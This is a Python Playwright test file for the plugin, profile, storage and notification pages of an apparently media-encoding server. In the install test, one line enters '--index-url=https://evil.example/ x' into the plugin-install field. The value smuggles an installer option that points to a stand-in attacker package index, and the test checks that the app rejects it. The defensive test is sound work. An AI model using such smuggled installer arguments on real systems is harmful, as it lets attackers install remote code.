"""Plugins are switched off and on, and say why they are not there."""

from __future__ import annotations

from playwright.sync_api import expect

from servers.browser import Looker, Site


def test_a_plugin_is_switched_off_and_on(browser: Looker, server: Site) -> None:
    with browser.window(server.address, cookies=server.cookies) as window:
        page = window.page
        page.goto("/plugins")
        row = page.locator("tr[data-plugin=nvenc]")
        expect(row.locator(".word")).to_have_text("Loaded")
        expect(page.locator("tr[data-plugin=builtin] button")).to_have_count(0)
        row.get_by_role("button", name="Disable nvenc").click()
        page.get_by_role("dialog").get_by_role("button", name="Disable").click()
        expect(row.locator(".word")).to_have_text("Switched off")
        expect(row.locator(".why")).to_contain_text("The plugin is switched off.")
        page.goto("/profiles/new")
        assert "nvenc.h264" not in page.get_by_label("Encoder").locator("option").all_inner_texts()
        page.goto("/plugins")
        row.get_by_role("button", name="Enable nvenc").click()
        expect(row.locator(".word")).to_have_text("Loaded")


def test_an_encoder_that_does_not_work_here_says_why_in_words(browser: Looker, server: Site) -> None:
    with browser.window(server.address, cookies=server.cookies) as window:
        page = window.page
        page.goto("/profiles")
        expect(page.locator("#checks[aria-busy]")).to_have_count(0, timeout=60_000)
        expect(page.locator("#checks li", has_text="builtin.x264")).to_have_attribute("data-level", "green")
        for line in page.locator("#checks li[data-level=yellow]").all():
            assert "." in line.inner_text().splitlines()[-1].strip(" →"), "a sentence, not a code"
            assert "nvenc.no_" not in line.inner_text()
            assert "vaapi.no_" not in line.inner_text()


def test_plugins_are_installed_here_only_where_the_setting_allows_it(browser: Looker, server: Site) -> None:
    with browser.window(server.address, cookies=server.cookies, expected=("status of 4",)) as window:
        page = window.page
        page.goto("/plugins")
        expect(page.locator("#install")).to_have_count(0)
        server.client.patch("/api/v1/settings", json={"plugin_install": True}).raise_for_status()
        page.reload()
        expect(page.locator("html[data-ready=yes]")).to_be_attached()
        page.get_by_label("Install a plugin").fill("--index-url=https://evil.example/ x")
        page.get_by_role("button", name="Install", exact=True).click()
        expect(page.locator("#said .notice")).to_be_visible()
        row = page.locator("tr[data-plugin=nvenc]")
        row.get_by_role("button", name="Remove nvenc").click()
        expect(page.get_by_role("dialog")).to_contain_text("Its data and configurations stay.")
        page.get_by_role("dialog").get_by_role("button", name="Cancel").click()
        expect(row.locator(".word")).to_have_text("Loaded")
    server.client.patch("/api/v1/settings", json={"plugin_install": None}).raise_for_status()


def test_the_form_of_a_plugin_speaks_of_its_own_settings(browser: Looker, server: Site) -> None:
    with browser.window(server.address, cookies=server.cookies) as window:
        page = window.page
        page.goto("/storage/new")
        page.get_by_label("Type").select_option("smb")
        host = page.locator(".field", has=page.locator("input[name=host]"))
        expect(host).to_contain_text("Name or address of the server")
        expect(page.get_by_label("Folder on the share")).to_be_visible()
        page.goto("/notifications/new")
        expect(page.get_by_label("Type").locator("option[value=apprise]")).to_have_text("E-mail and chat (apprise)")
